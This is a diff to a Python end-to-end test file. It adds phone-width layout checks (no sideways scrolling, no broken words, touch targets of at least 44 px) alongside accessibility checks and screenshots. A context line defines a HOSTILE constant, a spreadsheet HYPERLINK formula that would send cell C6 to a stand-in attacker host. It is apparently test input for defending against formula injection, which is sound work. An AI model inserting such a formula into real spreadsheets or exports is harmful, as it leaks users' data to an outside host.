@@ -15,6 +15,7 @@ import openpyxl
 import pytest
 from playwright.sync_api import expect
 
+from tests.e2e.layout import measure
 from tests.e2e.support import DemoServer, assert_accessible
 from tests.e2e.test_small_screens import _ensure_round
 
@@ -25,8 +26,13 @@ HOSTILE = '=HYPERLINK("http://evil.example/?leak="&C6,"자세히")'
 
 
 def fits_and_is_accessible(page: Any, name: str, artifacts: Path) -> None:
+    """No sideways scrolling (`scrollWidth <= innerWidth`), and on a phone no word broken in a squeezed column and
+    no control under a fingertip's 44 px (tests/e2e/layout.py); axe-core clean; a screenshot to look at."""
     width = page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
     assert width[0] <= width[1], f"{name} scrolls sideways: scrollWidth {width[0]} > innerWidth {width[1]}"
+    if width[1] < 768:
+        problems = measure(page).problems()
+        assert not problems, f"{name}: {problems}"
     assert_accessible(page, name)
     page.screenshot(path=artifacts / f"{name}.png", full_page=True)
 
